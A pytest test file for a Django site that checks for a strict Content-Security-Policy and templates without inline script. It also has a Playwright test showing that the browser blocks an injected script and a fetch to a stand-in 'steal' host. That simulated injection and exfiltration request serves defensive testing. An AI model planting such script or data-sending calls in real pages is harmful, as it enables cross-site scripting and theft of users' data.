"""Every page carries a strict Content-Security-Policy, and no template needs an exception."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from playwright.sync_api import Browser, Page
from pytest_django.live_server_helper import LiveServer

from trayecto.web.config import csp

TEMPLATES = Path(csp.__file__).resolve().parent.parent / "templates"


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/", "/accounts/login/", "/metodologia/", "/no-existe/"])
def test_every_response_has_the_policy(client: Client, url: str) -> None:
    response = client.get(url)
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy
    assert "default-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy
    assert "frame-ancestors 'none'" in policy


def test_no_template_has_an_inline_script_handler_or_style() -> None:
    """The policy allows only files from the site: an inline script, an on* handler or a
    style attribute in a template would be blocked in the browser."""
    offending = []
    for template in TEMPLATES.rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        inline_scripts = [
            tag
            for tag in re.findall(r"<script\b[^>]*>", text)
            if "src=" not in tag and 'type="application/json"' not in tag
        ]
        handlers = re.findall(r"\son[a-z]+\s*=", text)
        styles = re.findall(r"<style\b|\sstyle\s*=", text)
        if inline_scripts or handlers or styles:
            offending.append(
                f"{template.relative_to(TEMPLATES)}: {inline_scripts + handlers + styles}"
            )
    assert offending == []


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_browser_refuses_an_injected_script_and_a_foreign_request(
    browser: Browser, live_server: LiveServer
) -> None:
    """What the policy is for: script text that got into a page does not run, and nothing
    is sent elsewhere."""
    page = browser.new_page()
    blocked: list[str] = []
    page.on("console", lambda m: blocked.append(m.text) if "Content Security" in m.text else None)
    page.goto(f"{live_server.url}/accounts/login/")
    page.evaluate(
        """() => {
          const s = document.createElement("script");
          s.textContent = "document.body.dataset.injected = 'yes'";
          document.body.appendChild(s);
          return fetch("http://192.0.2.1/steal").catch(() => null);
        }"""
    )
    assert page.evaluate("document.body.dataset.injected") is None
    assert any("script-src" in text for text in blocked)
    assert any("connect-src" in text for text in blocked)
    page.close()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    "path", ["/admin/", "/admin/accounts/organization/", "/admin/auth/user/add/"]
)
def test_the_admin_site_works_under_the_policy(
    page: Page, live_server: LiveServer, path: str
) -> None:
    """Django's admin (the cluster admin's tool) raises no violation either: the `page`
    fixture (tests/web/conftest.py) fails the test on any."""
    get_user_model().objects.create_superuser("raiz", password="clave-de-prueba-larga")
    page.goto(f"{live_server.url}/admin/login/?next={path}")
    page.fill("#id_username", "raiz")
    page.fill("#id_password", "clave-de-prueba-larga")
    page.click("input[type=submit]")
    page.wait_for_url(f"**{path}")
    page.wait_for_load_state("networkidle")
    assert page.locator("#content").is_visible()
